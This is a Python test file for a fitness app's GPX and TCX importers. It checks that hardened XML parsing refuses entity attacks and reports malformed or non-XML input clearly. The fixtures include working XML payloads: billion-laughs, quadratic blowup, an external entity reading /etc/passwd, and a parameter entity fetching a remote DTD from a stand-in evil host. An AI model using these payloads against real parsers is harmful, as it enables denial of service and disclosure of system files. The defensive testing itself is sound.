"""Hardened XML reading shared by the GPX and TCX importers: entity attacks refused (the same inputs
defusedxml refuses), DTDs never fetched, syntax errors and non-XML input reported with a reason that
says where and what, and elements delivered by local name whatever their prefix."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import defusedxml  # the reference hardening: the attacks below are the ones it refuses
import defusedxml.ElementTree
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ironmile.adapters.importers.gpx import read_gpx
from ironmile.adapters.importers.tcx import read_tcx
from ironmile.adapters.importers.xml_stream import (
    EndHandler,
    StartHandler,
    parse_number,
    parse_time,
    read_elements,
)
from ironmile.domain.errors import RejectedFileError

TRACK = (
    '<trk><trkseg><trkpt lat="1.0" lon="2.0"><time>2024-05-01T08:00:00Z</time></trkpt>'
    '<trkpt lat="1.0" lon="2.001"><time>2024-05-01T08:00:10Z</time></trkpt></trkseg></trk>'
)
GPX_OPEN = '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'


def refusal(data: bytes, reader: str = "gpx") -> str:
    read = read_gpx if reader == "gpx" else read_tcx
    with pytest.raises(RejectedFileError) as refused:
        read(data, source="attack.gpx", file_hash="h")
    assert refused.value.source == "attack.gpx"
    return refused.value.reason


# --- entity attacks ----------------------------------------------------------------------------

# Ten levels of ten references each: 10⁹ "lol"s, 3 GB, if expanded.
LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = (
    f'<?xml version="1.0"?>\n<!DOCTYPE gpx [<!ENTITY lol0 "lol">{LAUGHS}]>\n'
    f"{GPX_OPEN}<metadata><desc>&lol9;</desc></metadata>{TRACK}</gpx>"
).encode()
QUADRATIC_BLOWUP = (
    '<?xml version="1.0"?>\n<!DOCTYPE gpx [<!ENTITY big "'
    + "x" * 50_000
    + '">]>\n'
    + GPX_OPEN
    + "<metadata><desc>"
    + "&big;" * 50_000
    + "</desc></metadata>"
    + TRACK
    + "</gpx>"
).encode()
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    + GPX_OPEN
    + "<metadata><desc>&secret;</desc></metadata>"
    + TRACK
    + "</gpx>"
).encode()
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>\n'
    + GPX_OPEN
    + TRACK
    + "</gpx>"
).encode()


@pytest.mark.parametrize(
    ("document", "name"),
    [
        (BILLION_LAUGHS, "lol0"),
        (QUADRATIC_BLOWUP, "big"),
        (EXTERNAL_ENTITY, "secret"),
        (PARAMETER_ENTITY, "%remote"),
    ],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "parameter-entity"],
)
def test_entity_declarations_are_refused_before_any_expansion(document: bytes, name: str) -> None:
    with pytest.raises(defusedxml.DefusedXmlException):
        defusedxml.ElementTree.fromstring(document)
    reason = refusal(document)
    assert reason.startswith(f"declares XML entities (<!ENTITY {name}>) and is refused for safety")


def test_an_entity_declaration_in_a_tcx_file_is_refused_too() -> None:
    document = (
        b'<?xml version="1.0"?><!DOCTYPE TrainingCenterDatabase [<!ENTITY a "aaaa">]>'
        b"<TrainingCenterDatabase><Activities/></TrainingCenterDatabase>"
    )
    assert "refused for safety" in refusal(document, "tcx")


def test_an_external_dtd_is_never_fetched(tmp_path: Path) -> None:
    # Were this DTD loaded, its entity declaration would be refused: the import succeeding shows it
    # was not read. Documents that only name a DTD are harmless and accepted.
    dtd = tmp_path / "gpx.dtd"
    dtd.write_text('<!ENTITY planted "from the DTD">')
    document = f'<?xml version="1.0"?>\n<!DOCTYPE gpx SYSTEM "{dtd.as_uri()}">\n{GPX_OPEN}{TRACK}</gpx>'
    (activity,) = read_gpx(document.encode(), source="dtd.gpx", file_hash="h")
    assert activity.moving_s == 10


def test_a_dtd_without_entities_is_accepted() -> None:
    document = f'<!DOCTYPE gpx [<!ELEMENT gpx ANY><!ATTLIST gpx version CDATA "1.1">]>{GPX_OPEN}{TRACK}</gpx>'
    (activity,) = read_gpx(document.encode(), source="dtd.gpx", file_hash="h")
    assert activity.start == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)


# --- syntax errors and input that is not XML ---------------------------------------------------


def test_malformed_xml_names_line_column_and_fault() -> None:
    document = f"<?xml version='1.0'?>\n{GPX_OPEN}\n<trk><trkseg></trk>\n</gpx>".encode()
    assert refusal(document) == (
        "malformed XML at line 3, column 16: mismatched tag; expected a well-formed GPX document"
    )


def test_an_undeclared_entity_is_malformed() -> None:
    document = f"{GPX_OPEN}<metadata><desc>caf&eacute;</desc></metadata>{TRACK}</gpx>".encode()
    assert refusal(document).startswith("malformed XML at line 1, column 81: undefined entity")


def test_a_truncated_file_says_it_ends_early() -> None:
    document = f"{GPX_OPEN}{TRACK}</gpx>".encode()
    reason = refusal(document[:-20])
    assert reason.startswith("malformed XML at line 1, column ")
    assert reason.endswith("(the file ends early: truncated?)")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "an empty file (0 bytes), expected a GPX document"),
        (b"\xef\xbb\xbf \n\t", "an empty file (only whitespace), expected a GPX document"),
        (
            b"\x0e\x10\x43\x08\x12\x34\x00\x00.FIT\x00\x00",
            "is not XML but a FIT file; expected a GPX document",
        ),
        (
            b"\x1f\x8b\x08\x00rest",
            "is not XML but gzip-compressed data (decompress it first); expected a GPX document",
        ),
        (b"PK\x03\x04rest", "is not XML but a ZIP archive; expected a GPX document"),
        (
            b"lat,lon,time\n1,2,3",
            "is not XML but data starting with b'lat,lon,time'; expected a GPX document",
        ),
    ],
    ids=["empty", "whitespace", "fit", "gzip", "zip", "csv"],
)
def test_input_that_is_not_xml(data: bytes, reason: str) -> None:
    assert refusal(data) == reason


def test_the_wrong_format_is_named_by_its_root() -> None:
    kml = b'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>'
    assert refusal(kml) == "is not a GPX file: its root element is <kml>, expected <gpx>"
    gpx = f"{GPX_OPEN}{TRACK}</gpx>".encode()
    assert refusal(gpx, "tcx") == (
        "is not a TCX file: its root element is <gpx>, expected <TrainingCenterDatabase>"
    )


# --- elements by local name --------------------------------------------------------------------


class Recorder:
    """A minimal ElementReader that writes down what it is told."""

    def __init__(self) -> None:
        self.text_parts: list[str] = []
        self.events: list[tuple[str, str]] = []

    def start_handlers(self) -> dict[str, StartHandler]:
        return {"point": lambda attrs: self.events.append(("start point", attrs.get("id", "")))}

    def end_handlers(self) -> dict[str, EndHandler]:
        return {
            "hr": lambda: self.events.append(("hr", "".join(self.text_parts))),
            "point": lambda: self.events.append(("end point", "")),
        }


def test_handlers_run_by_local_name_with_the_leaf_text() -> None:
    document = (
        b'<a:root xmlns:a="urn:a" xmlns:b="urn:b"><point id="1"><b:hr> 141 </b:hr><other>x</other></point>'
        b'<a:point id="2"><x><hr><![CDATA[150]]></hr></x><undeclared:hr>151</undeclared:hr></a:point>'
        b"</a:root>"
    )
    recorder = Recorder()
    read_elements(document, recorder, source="r.xml", root="root", kind="test")
    assert recorder.events == [
        ("start point", "1"),
        ("hr", " 141 "),
        ("end point", ""),
        ("start point", "2"),
        ("hr", "150"),
        ("hr", "151"),
        ("end point", ""),
    ]


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("12.5", 12.5),
        (" 7\n", 7.0),
        ("-3e2", -300.0),
        ("nan", None),
        ("inf", None),
        ("1,5", None),
        ("", None),
        (None, None),
    ],
)
def test_parse_number(text: str | None, number: float | None) -> None:
    assert parse_number(text) == number


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("2024-05-01T08:00:00Z", datetime(2024, 5, 1, 8, tzinfo=UTC)),
        (" 2024-05-01T08:00:00.5z\n", datetime(2024, 5, 1, 8, 0, 0, 500000, tzinfo=UTC)),
        ("2024-05-01T08:00:00", datetime(2024, 5, 1, 8, tzinfo=UTC)),  # no offset: UTC by the schemas
        (
            "2024-05-01T10:00:00.1234567+02:00",
            datetime(2024, 5, 1, 10, 0, 0, 123456, tzinfo=timezone(timedelta(hours=2))),
        ),
        ("2024-05-01", datetime(2024, 5, 1, tzinfo=UTC)),
        ("yesterday", None),
        ("", None),
    ],
)
def test_parse_time(text: str, moment: datetime | None) -> None:
    parsed = parse_time(text)
    assert parsed == moment
    if parsed is not None and moment is not None:
        assert parsed.utcoffset() == moment.utcoffset()


@pytest.mark.parametrize(
    ("declared", "why"),
    [("shift_jis", "multi-byte encodings are not supported"), ("klingon", "unknown encoding: klingon")],
)
def test_an_unreadable_declared_encoding_is_refused(declared: str, why: str) -> None:
    document = f'<?xml version="1.0" encoding="{declared}"?>{GPX_OPEN}{TRACK}</gpx>'.encode()
    assert refusal(document) == (
        f"declares a character encoding that cannot be read ({why}); expected UTF-8 or UTF-16"
    )


def test_a_single_byte_encoding_is_read() -> None:
    document = f'<?xml version="1.0" encoding="windows-1252"?>{GPX_OPEN}<trk><name>Café</name>'
    document += TRACK.removeprefix("<trk>") + "</gpx>"
    (activity,) = read_gpx(document.encode("cp1252"), source="w.gpx", file_hash="h")
    assert activity.moving_s == 10


@settings(max_examples=300, deadline=None)
@given(
    prefix=st.sampled_from([b"", b"<gpx>", b'<?xml version="1.0"?><gpx><trk><trkseg>', b"<gpx><trkpt "]),
    noise=st.binary(max_size=300),
)
def test_arbitrary_bytes_are_refused_or_read_never_crash(prefix: bytes, noise: bytes) -> None:
    for read in (read_gpx, read_tcx):
        try:
            outcome: object = read(prefix + noise, source="noise", file_hash="h")
        except RejectedFileError as refused:
            outcome = refused.reason
        assert outcome  # activities, or a reason; any other exception fails the test
